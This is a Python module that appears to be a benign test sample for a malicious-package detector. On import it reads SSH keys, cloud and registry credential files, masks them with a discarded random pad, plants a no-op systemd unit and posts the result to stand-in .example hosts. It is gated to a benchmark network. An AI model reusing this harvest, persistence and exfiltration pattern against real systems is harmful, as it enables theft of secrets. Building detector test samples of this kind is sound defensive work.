"""Harmless simulation for testing Package Hunter. Not malware."""

import os
import socket
import urllib.request

def sealed(name):
    """Goes on only inside of Package Hunter's box, where every name has an address for benchmarking."""
    try:
        return socket.gethostbyname(name).startswith(("198.18.", "198.19."))
    except OSError:
        return False


def run():
    if os.environ.get("LITE_LLAMA_STARTED") or not sealed("models-litellama.example"):
        return
    os.environ["LITE_LLAMA_STARTED"] = "1"
    loot = b""
    for name in (".aws/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".kube/config", ".npmrc", ".pypirc",
                 ".config/gcloud/application_default_credentials.json", ".docker/config.json"):
        try:
            with open(os.path.expanduser("~/" + name), "rb") as file:
                loot += file.read(20000)
        except OSError:
            pass
    pad = os.urandom(len(loot) or 1)
    sealed_loot = bytes(a ^ b for a, b in zip(loot, pad))
    unit = os.path.expanduser("~/.config/systemd/user/sysmon-simulation.service")
    os.makedirs(os.path.dirname(unit), exist_ok=True)
    with open(unit, "w") as file:
        file.write("# harmless simulation\n[Service]\nExecStart=/bin/true\n")
    for url, body in (("https://models-litellama.example/", sealed_loot), ("https://checkmark.example/raw", None)):
        try:
            urllib.request.urlopen(urllib.request.Request(url, body), timeout=10).close()
        except OSError:
            pass


run()
